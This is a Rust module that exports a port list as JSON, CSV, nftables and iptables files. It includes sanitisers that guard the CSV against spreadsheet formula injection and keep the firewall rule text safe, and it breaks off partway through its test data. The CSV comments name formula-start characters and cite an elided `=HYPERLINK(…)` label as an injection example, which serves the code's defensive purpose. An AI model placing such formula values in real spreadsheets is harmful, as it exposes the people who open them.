//! Exports of the port list for tools: JSON (with its published JSON Schema), CSV, nftables and
//! iptables.
//!
//! This module owns turning a checked [`PortList`] into the bytes of each format: the JSON shape
//! and its schema, the CSV columns, the firewall rule sets and their header comments. Every
//! function is pure and deterministic: the same list, languages and labels give the same bytes.
//!
//! It does not write files, choose their names, load the translation catalog (label texts come
//! through [`Labels`]) or parse the command line; the build and the CLI do that.
//!
//! All formats follow the data's order: deployments, devices and endpoints as declared, rules as
//! written, a rule's ports and protocols as written. The firewall exports match protocols and
//! destination ports only. Host names appear in their comments, never as addresses: a firewall
//! resolves a name once, when the rules are loaded, and a service's addresses may change.
//!
//! Every text of the data that reaches a firewall file (the deployment in the header, chain
//! names, rule comments) passes `firewall_text`. The data checks already keep ids and host
//! names plain; the sanitiser makes the firewall files safe for any [`PortList`], however it was
//! built, because a stray line in them is a rule the administrator did not ask for.

use std::fmt;
use std::str::FromStr;

use serde::Serialize;
use serde::ser::{SerializeMap, Serializer};

use crate::config::Lang;
use crate::data::ports::{Direction, Endpoint, PortList, PortRange, Protocol, Rule, Usage};
use crate::i18n::Catalog;

/// Text of a label in a language, supplied by the caller (the translation catalog).
pub trait Labels {
    /// The text of message `id` in `lang`.
    fn text(&self, lang: &Lang, id: &str) -> String;
}

/// Looks labels up in the catalog with [`Catalog::text_or_id`]: falling back to the default
/// language, and to the message id where both lack it (which `check_labels` reports before any
/// export).
impl Labels for Catalog {
    fn text(&self, lang: &Lang, id: &str) -> String {
        self.text_or_id(lang, id, None)
    }
}

/// An export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Format {
    /// [`json`]: the whole list with labels in every language; described by [`json_schema`].
    Json,
    /// [`csv`]: one row per rule, deployment, protocol and port range.
    Csv,
    /// [`nftables`]: a file for `nft -f`.
    Nftables,
    /// [`iptables`]: a file for `iptables-restore --noflush` and `ip6tables-restore --noflush`.
    Iptables,
}

impl Format {
    /// Every format, in the order the CLI lists them.
    pub const ALL: [Format; 4] = [
        Format::Json,
        Format::Csv,
        Format::Nftables,
        Format::Iptables,
    ];

    /// The name on the command line: `json`, `csv`, `nftables` or `iptables`.
    pub fn as_str(self) -> &'static str {
        match self {
            Format::Json => "json",
            Format::Csv => "csv",
            Format::Nftables => "nftables",
            Format::Iptables => "iptables",
        }
    }

    /// The file the build publishes it as, in `data/`.
    pub fn file_name(self) -> &'static str {
        match self {
            Format::Json => "ports.json",
            Format::Csv => "ports.csv",
            Format::Nftables => "ports.nft",
            Format::Iptables => "ports.iptables",
        }
    }

    /// The export in this format; see the function of each format. The firewall formats need
    /// no labels.
    pub fn render(
        self,
        list: &PortList,
        langs: &[Lang],
        labels: &dyn Labels,
        deployment: Option<usize>,
    ) -> String {
        match self {
            Format::Json => json(list, langs, labels, deployment),
            Format::Csv => csv(list, langs, labels, deployment),
            Format::Nftables => nftables(list, deployment),
            Format::Iptables => iptables(list, deployment),
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A format name that [`Format::from_str`] does not know.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown export format `{0}`; use json, csv, nftables or iptables")]
pub struct UnknownFormat(pub String);

impl FromStr for Format {
    type Err = UnknownFormat;

    /// Parses the name [`Format::as_str`] gives.
    fn from_str(name: &str) -> Result<Format, UnknownFormat> {
        Format::ALL
            .into_iter()
            .find(|format| format.as_str() == name)
            .ok_or_else(|| UnknownFormat(name.to_owned()))
    }
}

/// The usages of `rule` that an export covers: all, or those in one deployment.
fn usages(rule: &Rule, deployment: Option<usize>) -> impl Iterator<Item = &Usage> {
    rule.usages
        .iter()
        .filter(move |usage| deployment.is_none_or(|selected| usage.deployment == selected))
}

// ---------------------------------------------------------------------------------------------
// JSON

/// The value of `$schema` in [`json`]'s output: the schema file published beside it.
pub const JSON_SCHEMA_FILE: &str = "ports.schema.json";

/// The port list as JSON for tools: language-neutral ids, and labels in every language of
/// `langs` (in that order).
///
/// Pretty-printed with two-space indents and a trailing newline; keys in a fixed order. The
/// shape, which [`json_schema`] describes exactly:
///
/// ```json
/// {
///   "$schema": "ports.schema.json",
///   "languages": ["de", "en"],
///   "deployment": null,
///   "deployments": [{ "id": "cloud", "label": { "de": "Cloud", "en": "Cloud" } }],
///   "devices": [{ "id": "phone", "icon": "phone", "label": { "de": "…", "en": "…" } }],
///   "endpoints": [{ "id": "…", "icon": "…", "label": { … }, "hosts": ["…"], "note": null }],
///   "rules": [{
///     "id": "sip",
///     "ports": [{ "start": 5061, "end": 5061 }],
///     "protocols": ["tcp"],
///     "devices": ["phone"],
///     "function": { "id": "function-sip", "label": { … } },
///     "deployments": [{ "deployment": "cloud", "direction": "outbound",
///                       "source": "your-network", "destination": "pascom-cloud" }]
///   }]
/// }
/// ```
///
/// With `deployment: Some(i)`, `"deployment"` names that deployment, and `rules` keeps only the
/// rules used there, each with only that usage. The declarations (deployments, devices,
/// endpoints) stay complete, so ids resolve the same in every export.
///
/// # Panics
///
/// If `deployment` is not an index of `list.deployments`.
pub fn json(
    list: &PortList,
    langs: &[Lang],
    labels: &dyn Labels,
    deployment: Option<usize>,
) -> String {
    let texts = |id: &str| Texts {
        langs,
        texts: langs.iter().map(|lang| labels.text(lang, id)).collect(),
    };
    let export = JsonList {
        schema: JSON_SCHEMA_FILE,
        languages: langs.iter().map(Lang::as_str).collect(),
        deployment: deployment.map(|index| list.deployments[index].id.as_str()),
        deployments: list
            .deployments
            .iter()
            .map(|deployment| JsonDeployment {
                id: &deployment.id,
                label: texts(&deployment.label.id),
            })
            .collect(),
        devices: list
            .devices
            .iter()
            .map(|device| JsonDevice {
                id: &device.id,
                icon: &device.icon,
                label: texts(&device.label.id),
            })
            .collect(),
        endpoints: list
            .endpoints
            .iter()
            .map(|endpoint| JsonEndpoint {
                id: &endpoint.id,
                icon: &endpoint.icon,
                label: texts(&endpoint.label.id),
                hosts: &endpoint.hosts,
                note: endpoint.note.as_ref().map(|note| texts(&note.id)),
            })
            .collect(),
        rules: list
            .rules
            .iter()
            .filter_map(|rule| {
                let deployments: Vec<JsonUsage> = usages(rule, deployment)
                    .map(|usage| JsonUsage {
                        deployment: &list.deployments[usage.deployment].id,
                        direction: usage.direction,
                        source: &list.endpoints[usage.source].id,
                        destination: &list.endpoints[usage.destination].id,
                    })
                    .collect();
                (!deployments.is_empty()).then(|| JsonRule {
                    id: &rule.id,
                    ports: rule
                        .ports
                        .iter()
                        .map(|range| JsonPorts {
                            start: range.start,
                            end: range.end,
                        })
                        .collect(),
                    protocols: &rule.protocols,
                    devices: rule
                        .devices
                        .iter()
                        .map(|&device| list.devices[device].id.as_str())
                        .collect(),
                    function: JsonFunction {
                        id: &rule.function.id,
                        label: texts(&rule.function.id),
                    },
                    deployments,
                })
            })
            .collect(),
    };
    let mut text =
        serde_json::to_string_pretty(&export).expect("strings and numbers always serialize");
    text.push('\n');
    text
}

/// The published JSON Schema (draft 2020-12) of [`json`]'s output, pretty-printed with a trailing
/// newline.
///
/// It states every property as required and allows no others, limits ports to 1–65535 and
/// protocols and directions to their names. What it cannot state, such as `start <= end` or that
/// an id refers to a declared entry, its descriptions say.
pub fn json_schema() -> String {
    SCHEMA.to_owned()
}

/// Label texts keyed by language code, in the order of the languages.
struct Texts<'a> {
    langs: &'a [Lang],
    texts: Vec<String>,
}

impl Serialize for Texts<'_> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let mut map = serializer.serialize_map(Some(self.texts.len()))?;
        for (lang, text) in self.langs.iter().zip(&self.texts) {
            map.serialize_entry(lang.as_str(), text)?;
        }
        map.end()
    }
}

#[derive(Serialize)]
struct JsonList<'a> {
    #[serde(rename = "$schema")]
    schema: &'static str,
    languages: Vec<&'a str>,
    deployment: Option<&'a str>,
    deployments: Vec<JsonDeployment<'a>>,
    devices: Vec<JsonDevice<'a>>,
    endpoints: Vec<JsonEndpoint<'a>>,
    rules: Vec<JsonRule<'a>>,
}

#[derive(Serialize)]
struct JsonDeployment<'a> {
    id: &'a str,
    label: Texts<'a>,
}

#[derive(Serialize)]
struct JsonDevice<'a> {
    id: &'a str,
    icon: &'a str,
    label: Texts<'a>,
}

#[derive(Serialize)]
struct JsonEndpoint<'a> {
    id: &'a str,
    icon: &'a str,
    label: Texts<'a>,
    hosts: &'a [String],
    note: Option<Texts<'a>>,
}

#[derive(Serialize)]
struct JsonRule<'a> {
    id: &'a str,
    ports: Vec<JsonPorts>,
    protocols: &'a [Protocol],
    devices: Vec<&'a str>,
    function: JsonFunction<'a>,
    deployments: Vec<JsonUsage<'a>>,
}

#[derive(Serialize)]
struct JsonPorts {
    start: u16,
    end: u16,
}

#[derive(Serialize)]
struct JsonFunction<'a> {
    id: &'a str,
    label: Texts<'a>,
}

#[derive(Serialize)]
struct JsonUsage<'a> {
    deployment: &'a str,
    direction: Direction,
    source: &'a str,
    destination: &'a str,
}

const SCHEMA: &str = r##"{
  "$schema": "https://json-schema.org/draft/2020-12/schema",
  "title": "Port list",
  "description": "The network connections a product needs, exported by tafel from data/ports.yaml. Ids are language-neutral and stable; every label is given in each language of `languages`. Lists keep the order of the data.",
  "type": "object",
  "required": ["$schema", "languages", "deployment", "deployments", "devices", "endpoints", "rules"],
  "additionalProperties": false,
  "properties": {
    "$schema": {
      "description": "This schema, relative to the export.",
      "const": "ports.schema.json"
    },
    "languages": {
      "description": "The language codes of every label, in the site's order.",
      "type": "array",
      "uniqueItems": true,
      "items": { "$ref": "#/$defs/language" }
    },
    "deployment": {
      "description": "The id of the deployment this export is restricted to (then `rules` holds only the rules used there, each with only that usage), or null for all deployments.",
      "anyOf": [{ "$ref": "#/$defs/id" }, { "type": "null" }]
    },
    "deployments": {
      "description": "Ways the product is deployed, such as cloud or onsite.",
      "type": "array",
      "items": { "$ref": "#/$defs/deployment" }
    },
    "devices": {
      "description": "Kinds of devices that open connections, in legend order.",
      "type": "array",
      "items": { "$ref": "#/$defs/device" }
    },
    "endpoints": {
      "description": "Ends of connections: networks and services.",
      "type": "array",
      "items": { "$ref": "#/$defs/endpoint" }
    },
    "rules": {
      "description": "Firewall rules, in table order.",
      "type": "array",
      "items": { "$ref": "#/$defs/rule" }
    }
  },
  "$defs": {
    "id": {
      "description": "An id of the port list: lowercase ASCII letters, digits and `-`, starting with a letter.",
      "type": "string",
      "pattern": "^[a-z][a-z0-9-]*$"
    },
    "language": {
      "description": "A BCP 47 language code such as `de` or `pt-BR`.",
      "type": "string",
      "pattern": "^[a-z]{2,3}(-[A-Za-z0-9]{1,8})*$"
    },
    "text": {
      "description": "A text per language code of `languages`.",
      "type": "object",
      "propertyNames": { "$ref": "#/$defs/language" },
      "additionalProperties": { "type": "string" }
    },
    "deployment": {
      "type": "object",
      "required": ["id", "label"],
      "additionalProperties": false,
      "properties": {
        "id": { "description": "Unique among deployments.", "$ref": "#/$defs/id" },
        "label": { "$ref": "#/$defs/text" }
      }
    },
    "device": {
      "type": "object",
      "required": ["id", "icon", "label"],
      "additionalProperties": false,
      "properties": {
        "id": { "description": "Unique among devices.", "$ref": "#/$defs/id" },
        "icon": { "description": "Name of the icon in the documentation's theme.", "type": "string" },
        "label": { "$ref": "#/$defs/text" }
      }
    },
    "endpoint": {
      "type": "object",
      "required": ["id", "icon", "label", "hosts", "note"],
      "additionalProperties": false,
      "properties": {
        "id": { "description": "Unique among endpoints.", "$ref": "#/$defs/id" },
        "icon": { "description": "Name of the icon in the documentation's theme.", "type": "string" },
        "label": { "$ref": "#/$defs/text" },
        "hosts": {
          "description": "DNS names of the service; empty for a network, or for a service whose names differ per customer. Configure firewalls by name with care: addresses may change.",
          "type": "array",
          "items": { "type": "string", "format": "hostname" }
        },
        "note": {
          "description": "A remark to show wherever the endpoint appears, or null.",
          "anyOf": [{ "$ref": "#/$defs/text" }, { "type": "null" }]
        }
      }
    },
    "port": {
      "type": "integer",
      "minimum": 1,
      "maximum": 65535
    },
    "portRange": {
      "description": "An inclusive range of ports, start <= end; a single port has start = end.",
      "type": "object",
      "required": ["start", "end"],
      "additionalProperties": false,
      "properties": {
        "start": { "$ref": "#/$defs/port" },
        "end": { "$ref": "#/$defs/port" }
      }
    },
    "protocol": { "enum": ["tcp", "udp"] },
    "direction": {
      "description": "Which way the connection is opened, seen from the customer's network.",
      "enum": ["outbound", "inbound"]
    },
    "rule": {
      "type": "object",
      "required": ["id", "ports", "protocols", "devices", "function", "deployments"],
      "additionalProperties": false,
      "properties": {
        "id": { "description": "Unique among rules.", "$ref": "#/$defs/id" },
        "ports": {
          "description": "Destination ports; the rule applies to every port of every range on every protocol.",
          "type": "array",
          "minItems": 1,
          "items": { "$ref": "#/$defs/portRange" }
        },
        "protocols": {
          "type": "array",
          "minItems": 1,
          "uniqueItems": true,
          "items": { "$ref": "#/$defs/protocol" }
        },
        "devices": {
          "description": "Ids of the devices that open the connection.",
          "type": "array",
          "minItems": 1,
          "uniqueItems": true,
          "items": { "$ref": "#/$defs/id" }
        },
        "function": {
          "description": "What the connection is for: a stable id and its label.",
          "type": "object",
          "required": ["id", "label"],
          "additionalProperties": false,
          "properties": {
            "id": { "description": "The label's message id.", "$ref": "#/$defs/id" },
            "label": { "$ref": "#/$defs/text" }
          }
        },
        "deployments": {
          "description": "How the rule applies in each deployment that uses it, in deployment order.",
          "type": "array",
          "minItems": 1,
          "items": { "$ref": "#/$defs/usage" }
        }
      }
    },
    "usage": {
      "type": "object",
      "required": ["deployment", "direction", "source", "destination"],
      "additionalProperties": false,
      "properties": {
        "deployment": { "description": "Id of a deployment.", "$ref": "#/$defs/id" },
        "direction": { "$ref": "#/$defs/direction" },
        "source": { "description": "Id of the endpoint that opens the connection.", "$ref": "#/$defs/id" },
        "destination": { "description": "Id of the endpoint the connection goes to; the ports are its ports.", "$ref": "#/$defs/id" }
      }
    }
  }
}
"##;

// ---------------------------------------------------------------------------------------------
// CSV

/// The port list as CSV (RFC 4180: CRLF line ends, inner quotes doubled), with a header row.
/// A field is quoted when it contains `,`, `"`, CR or LF, and also `;` or a tab, which some
/// spreadsheets take as the separator. A cell that a spreadsheet would evaluate as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or CR, as OWASP's "CSV Injection" lists them) gets
/// a leading `'` and quotes: labels are text from translators, and a label such as
/// `=HYPERLINK(…)` must not run when someone opens the file. Ports never start with those
/// characters, so they stay plain numbers.
///
/// One row per rule, deployment usage, protocol and port range, in that nesting, so no cell
/// needs splitting: columns `rule,deployment,direction,protocol,port_start,port_end,devices,
/// source,destination,hosts,function`, then `function_<lang>` for each language of `langs`
/// with the function's label. `devices` (ids) and `hosts` (the destination's DNS names) are
/// space-separated; `function` is the label's id. Ports never get digit grouping.
///
/// With `deployment: Some(i)`, only the rows of that deployment.
pub fn csv(
    list: &PortList,
    langs: &[Lang],
    labels: &dyn Labels,
    deployment: Option<usize>,
) -> String {
    let mut out = String::new();
    let mut header: Vec<String> = [
        "rule",
        "deployment",
        "direction",
        "protocol",
        "port_start",
        "port_end",
        "devices",
        "source",
        "destination",
        "hosts",
        "function",
    ]
    .map(str::to_owned)
    .into();
    header.extend(langs.iter().map(|lang| format!("function_{lang}")));
    csv_row(&mut out, &header);
    for rule in &list.rules {
        let functions: Vec<String> = langs
            .iter()
            .map(|lang| labels.text(lang, &rule.function.id))
            .collect();
        let devices = rule
            .devices
            .iter()
            .map(|&device| list.devices[device].id.as_str())
            .collect::<Vec<_>>()
            .join(" ");
        for usage in usages(rule, deployment) {
            let destination = &list.endpoints[usage.destination];
            for protocol in &rule.protocols {
                for range in &rule.ports {
                    let mut row = vec![
                        rule.id.clone(),
                        list.deployments[usage.deployment].id.clone(),
                        usage.direction.name().to_owned(),
                        protocol.name().to_owned(),
                        range.start.to_string(),
                        range.end.to_string(),
                        devices.clone(),
                        list.endpoints[usage.source].id.clone(),
                        destination.id.clone(),
                        destination.hosts.join(" "),
                        rule.function.id.clone(),
                    ];
                    row.extend(functions.iter().cloned());
                    csv_row(&mut out, &row);
                }
            }
        }
    }
    out
}

/// What makes a spreadsheet read a cell as a formula when it starts the cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn csv_row(out: &mut String, fields: &[String]) {
    for (index, field) in fields.iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        csv_field(out, field);
    }
    out.push_str("\r\n");
}

/// One field of [`csv`]: neutralised with a leading `'` if a spreadsheet would evaluate it, and
/// quoted if it is neutralised or holds a separator, a quote or a line break.
fn csv_field(out: &mut String, field: &str) {
    let formula = field.starts_with(FORMULA_STARTS);
    if formula || field.contains([',', ';', '\t', '"', '\r', '\n']) {
        out.push('"');
        if formula {
            out.push('\'');
        }
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

// ---------------------------------------------------------------------------------------------
// Firewalls

/// The rules of one deployment in one direction: one chain of a firewall export.
struct Chain<'a> {
    deployment: usize,
    direction: Direction,
    rules: Vec<(&'a Rule, &'a Usage)>,
}

/// The chains that have rules, in deployment order, outbound before inbound.
fn chains(list: &PortList, deployment: Option<usize>) -> Vec<Chain<'_>> {
    let mut chains = Vec::new();
    for index in 0..list.deployments.len() {
        if deployment.is_some_and(|selected| selected != index) {
            continue;
        }
        for direction in [Direction::Outbound, Direction::Inbound] {
            let rules: Vec<_> = list.rules_for(index, Some(direction)).collect();
            if !rules.is_empty() {
                chains.push(Chain {
                    deployment: index,
                    direction,
                    rules,
                });
            }
        }
    }
    chains
}

/// One name part per deployment, made of `clean(id)` cut to `max_len` bytes; a name that is
/// already taken gets `-2`, `-3`… (with `separator`) so chains never merge. Computed over all
/// deployments, so a chain has the same name whichever deployment is exported.
fn deployment_names(
    list: &PortList,
    clean: impl Fn(&str) -> String,
    max_len: usize,
    separator: char,
) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for deployment in &list.deployments {
        let mut base = clean(&deployment.id);
        base.truncate(max_len);
        let mut name = base.clone();
        let mut number = 1;
        while names.contains(&name) {
            number += 1;
            let suffix = format!("{separator}{number}");
            name = base[..base.len().min(max_len - suffix.len())].to_owned() + &suffix;
        }
        names.push(name);
    }
    names
}

/// Longest rule comment: nft's limit (iptables allows 255).
const COMMENT_MAX: usize = 128;

/// Punctuation that [`firewall_text`] keeps: it means nothing inside a quoted string or a
/// comment of nft or iptables-restore.
const FIREWALL_PUNCTUATION: &str = " .:,_-/+=@()";

/// A text of the data as it may appear in a firewall file: ASCII letters, digits and
/// [`FIREWALL_PUNCTUATION`] stay, every other character becomes `_`, one for one.
///
/// So no value can end a line (LF, CR, U+0085, U+2028 and every other break are replaced), end
/// a quoted string or escape within one (`"`, `'`, `\`), start a comment (`#`), or end a
/// statement or block (`;`, `{`, `}`). Chain names narrow the result further to what each tool
/// accepts in a name.
fn firewall_text(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || FIREWALL_PUNCTUATION.contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// `rule-id: destination hosts` (or the destination's id if it has none), through
/// [`firewall_text`] and cut to [`COMMENT_MAX`] bytes.
fn rule_comment(rule: &Rule, destination: &Endpoint) -> String {
    let target = if destination.hosts.is_empty() {
        destination.id.clone()
    } else {
        destination.hosts.join(" ")
    };
    let mut comment = firewall_text(&format!("{}: {target}", rule.id));
    if comment.len() > COMMENT_MAX {
        comment.truncate(COMMENT_MAX - 3);
        comment.push_str("...");
    }
    comment
}

/// The first lines of both firewall exports.
fn firewall_header(out: &mut String, list: &PortList, deployment: Option<usize>) {
    out.push_str(
        "# Firewall rules of the port list, generated from data/ports.yaml by tafel.\n\
         # Do not edit: change data/ports.yaml and export again.\n",
    );
    match deployment {
        Some(index) => {
            out.push_str(&format!(
                "# Deployment: {} only.\n",
                firewall_text(&list.deployments[index].id)
            ));
        }
        None => out.push_str("# Deployments: all.\n"),
    }
    out.push_str(
        "#\n\
         # Each chain accepts the connections of one deployment and direction, matching the\n\
         # protocol and destination port only. Host names appear in comments, never as\n\
         # addresses: a name would be resolved once, at load time, and addresses change.\n",
    );
}

/// The nftables chain of each deployment and direction: `cloud_outbound`. An nft name starts
/// with a letter or `_`, so an id starting with a digit gets a leading `_`.
fn nft_chain_names(list: &PortList) -> Vec<String> {
    let clean = |id: &str| -> String {
        let name: String = firewall_text(id)
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
            .collect();
        if name.starts_with(|c: char| c.is_ascii_digit()) {
            format!("_{name}")
        } else {
            name
        }
    };
    deployment_names(list, clean, 200, '_')
}

/// The port list as an nftables file: `table inet ports` with one regular chain per deployment
/// and direction that has rules (deployment order, outbound before inbound), named like
/// `cloud_outbound`, and one nft rule per data rule:
///
/// ```text
/// tcp dport 5061 accept comment "sip: pascom-cloud"
/// udp dport 30000-35000 accept comment "rtp: pascom-cloud"
/// tcp dport { 80, 443 } accept comment "updates-push: my.pascom.net"
/// meta l4proto { tcp, udp } th dport 19302 accept comment "webrtc: pascom-cloud"
/// ```
///
/// The chains have no hook, so loading the file changes nothing until the administrator jumps to
/// them; the header comment explains how. The file first creates and flushes its chains, so
/// loading it again replaces their rules and leaves the rest of the table alone. `nft -c -f`
/// accepts it on its own.
///
/// With `deployment: Some(i)`, only the chains of that deployment.
pub fn nftables(list: &PortList, deployment: Option<usize>) -> String {
    let chains = chains(list, deployment);
    let names = nft_chain_names(list);
    let name = |chain: &Chain| format!("{}_{}", names[chain.deployment], chain.direction.name());
    let mut out = String::new();
    firewall_header(&mut out, list, deployment);
    out.push_str(
        "#\n\
         # Check with `nft -c -f FILE`, load with `nft -f FILE`. Loading again replaces the rules\n\
         # of these chains and leaves the rest of the table alone.\n\
         #\n\
         # The chains have no hook: loading this file changes nothing until a base chain jumps to\n\
         # them. nftables jumps only within a table, so add your base chain to `table inet ports`,\n\
         # for example in a file loaded after this one:\n\
         #\n\
         #   table inet ports {\n\
         #     chain forward {\n\
         #       type filter hook forward priority filter; policy drop;\n\
         #       ct state established,related accept\n",
    );
    let example = chains
        .first()
        .map_or_else(|| "cloud_outbound".to_owned(), &name);
    let (from, to) = match chains.first().map(|chain| chain.direction) {
        Some(Direction::Inbound) => ("wan0", "lan0"),
        _ => ("lan0", "wan0"),
    };
    out.push_str(&format!(
        "#       iifname \"{from}\" oifname \"{to}\" jump {example}\n"
    ));
    out.push_str(
        "#     }\n\
         #   }\n\
         #\n\
         # An accept ends a packet's way through this table only: base chains of other tables on\n\
         # the same hook still see it.\n\n",
    );
    out.push_str("add table inet ports\n");
    for chain in &chains {
        let name = name(chain);
        out.push_str(&format!(
            "add chain inet ports {name}\nflush chain inet ports {name}\n"
        ));
    }
    out.push_str("\ntable inet ports {\n");
    for (index, chain) in chains.iter().enumerate() {
        if index > 0 {
            out.push('\n');
        }
        out.push_str(&format!("\tchain {} {{\n", name(chain)));
        for (rule, usage) in &chain.rules {
            let ports = match rule.ports.as_slice() {
                [range] => range.to_string(),
                ranges => format!(
                    "{{ {} }}",
                    ranges
                        .iter()
                        .map(PortRange::to_string)
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            };
            let mut protocols = rule.protocols.clone();
            protocols.sort();
            let matches = match protocols.as_slice() {
                [protocol] => format!("{} dport {ports}", protocol.name()),
                protocols => format!(
                    "meta l4proto {{ {} }} th dport {ports}",
                    protocols
                        .iter()
                        .map(|protocol| protocol.name())
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            };
            let comment = rule_comment(rule, &list.endpoints[usage.destination]);
            out.push_str(&format!("\t\t{matches} accept comment \"{comment}\"\n"));
        }
        out.push_str("\t}\n");
    }
    out.push_str("}\n");
    out
}

/// Longest iptables chain name (the kernel's limit is 28 characters plus the terminating zero).
const IPTABLES_CHAIN_MAX: usize = 28;

/// Most ports one `-m multiport` match takes; a range counts as two.
const MULTIPORT_MAX: usize = 15;

/// The iptables chain of each deployment and direction: `PORTS-CLOUD-OUT`, `PORTS-ONSITE-IN`.
fn iptables_chain_names(list: &PortList) -> Vec<String> {
    let clean = |id: &str| -> String {
        firewall_text(id)
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_ascii_uppercase()
                } else {
                    '-'
                }
            })
            .collect()
    };
    let max_len = IPTABLES_CHAIN_MAX - "PORTS-".len() - "-OUT".len();
    deployment_names(list, clean, max_len, '-')
}

/// The port list in `iptables-restore` format, for IPv4 and IPv6 alike (no addresses are used):
/// `*filter`, one user chain per deployment and direction that has rules (deployment order,
/// outbound before inbound), named like `PORTS-CLOUD-OUT` and `PORTS-ONSITE-IN`, then `COMMIT`.
///
/// Each data rule gives one line per protocol, such as
/// `-A PORTS-CLOUD-OUT -p tcp --dport 5061 -m comment --comment "sip: pascom-cloud" -j ACCEPT`;
/// a range is written `30000:35000`, several ports `-m multiport --dports 80,443` (split into
/// lines of at most 15 ports, a range counting two).
///
/// Meant for `iptables-restore --noflush` (the header comment says why and how to jump to the
/// chains); `iptables-restore --test` and `ip6tables-restore --test` accept it.
///
/// With `deployment: Some(i)`, only the chains of that deployment.
pub fn iptables(list: &PortList, deployment: Option<usize>) -> String {
    let chains = chains(list, deployment);
    let names = iptables_chain_names(list);
    let chain_name = |chain: &Chain| {
        let direction = match chain.direction {
            Direction::Outbound => "OUT",
            Direction::Inbound => "IN",
        };
        format!("PORTS-{}-{direction}", names[chain.deployment])
    };
    let mut out = String::new();
    firewall_header(&mut out, list, deployment);
    out.push_str(
        "#\n\
         # For IPv4 and IPv6 alike. Check with `iptables-restore --test --noflush FILE`, load with\n\
         #\n\
         #   iptables-restore --noflush FILE\n\
         #   ip6tables-restore --noflush FILE\n\
         #\n\
         # Always use --noflush: without it, iptables-restore first empties the whole filter table,\n\
         # your own rules included. With it, only the chains below are emptied and filled, so\n\
         # loading again replaces their rules and keeps your jumps to them.\n\
         #\n\
         # The chains do nothing until a chain of yours jumps to them, for example\n\
         #\n",
    );
    let example = chains
        .first()
        .map_or_else(|| "PORTS-CLOUD-OUT".to_owned(), &chain_name);
    let (from, to) = match chains.first().map(|chain| chain.direction) {
        Some(Direction::Inbound) => ("wan0", "lan0"),
        _ => ("lan0", "wan0"),
    };
    out.push_str(&format!(
        "#   iptables -A FORWARD -i {from} -o {to} -j {example}\n\n"
    ));
    out.push_str("*filter\n");
    for chain in &chains {
        out.push_str(&format!(":{} - [0:0]\n", chain_name(chain)));
    }
    for chain in &chains {
        let name = chain_name(chain);
        for (rule, usage) in &chain.rules {
            let comment = rule_comment(rule, &list.endpoints[usage.destination]);
            for protocol in &rule.protocols {
                for ports in multiport_groups(&rule.ports) {
                    let ports = match ports {
                        [range] => format!("--dport {}", iptables_range(range)),
                        ranges => format!(
                            "-m multiport --dports {}",
                            ranges
                                .iter()
                                .map(iptables_range)
                                .collect::<Vec<_>>()
                                .join(",")
                        ),
                    };
                    out.push_str(&format!(
                        "-A {name} -p {} {ports} -m comment --comment \"{comment}\" -j ACCEPT\n",
                        protocol.name()
                    ));
                }
            }
        }
    }
    out.push_str("COMMIT\n");
    out
}

/// `5061` or `30000:35000`.
fn iptables_range(range: &PortRange) -> String {
    if range.is_single() {
        range.start.to_string()
    } else {
        format!("{}:{}", range.start, range.end)
    }
}

/// The ports split, in order, into groups that one multiport match takes.
fn multiport_groups(ports: &[PortRange]) -> Vec<&[PortRange]> {
    let mut groups = Vec::new();
    let mut start = 0;
    let mut count = 0;
    for (index, range) in ports.iter().enumerate() {
        let weight = if range.is_single() { 1 } else { 2 };
        if count + weight > MULTIPORT_MAX {
            groups.push(&ports[start..index]);
            start = index;
            count = 0;
        }
        count += weight;
    }
    if start < ports.len() {
        groups.push(&ports[start..]);
    }
    groups
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;
    use std::path::{Path, PathBuf};
    use std::process::{Command, Output, Stdio};

    use super::*;
    use crate::config::{Language, SiteConfig};
    use crate::diagnostics::SourceMap;
    use crate::discover::{Layer, MessageInput, TextInput};

    const SMALL: &str = "\
deployments:
  cloud: { label: deployment-cloud }
  onsite: { label: deployment-onsite }
devices:
  desktop: { icon: monitor, label: device-desktop }
  phone: { icon: phone, label: device-phone }
endpoints:
  lan: { icon: network, label: endpoint-lan }
  cloud: { icon: cloud, label: endpoint-cloud, note: note-cloud }
  mail: { icon: mail, label: endpoint-mail, hosts: [mx1.example.net, mx2.example.net] }
rules:
  - id: sip
    ports: 5061
    protocols: tcp
    devices: [desktop, phone]
    function: function-sip
    deployments:
      cloud: { direction: outbound, source: lan, destination: cloud }
      onsite: { direction: inbound, source: cloud, destination: lan }
  - id: media
    ports: [30000-35000, 3478]
    protocols: [udp, tcp]
    devices: [phone]
    function: function-media
    deployments:
      cloud: { direction: outbound, source: lan, destination: cloud }
  - id: mail
    ports: [25, 587]
    protocols: tcp
    devices: [desktop]
    function: function-mail
    deployments:
      onsite: { direction: outbound, source: lan, destination: mail }
";

    /// Labels of [`SMALL`]: (language, id, text).
    struct Table(&'static [(&'static str, &'static str, &'static str)]);

    impl Labels for Table {
        fn text(&self, lang: &Lang, id: &str) -> String {
            let (_, _, text) = self
                .0
                .iter()
                .find(|(code, known, _)| *code == lang.as_str() && *known == id)
                .unwrap_or_else(|| panic!("no label `{id}` in `{lang}`"));
            (*text).to_owned()
        }
    }

    const SMALL_LABELS: Table = Table(&[
        ("de", "deployment-cloud", "Cloud"),
        ("en", "deployment-cloud", "Cloud"),
        ("de", "deployment-onsite", "Vor Ort"),
        ("en", "deployment-onsite", "Onsite"),
        ("de", "device-desktop", "Desktop"),
        ("en", "device-desktop", "Desktop"),
        ("de", "device-phone", "Telefon"),
        ("en", "device-phone", "Phone"),
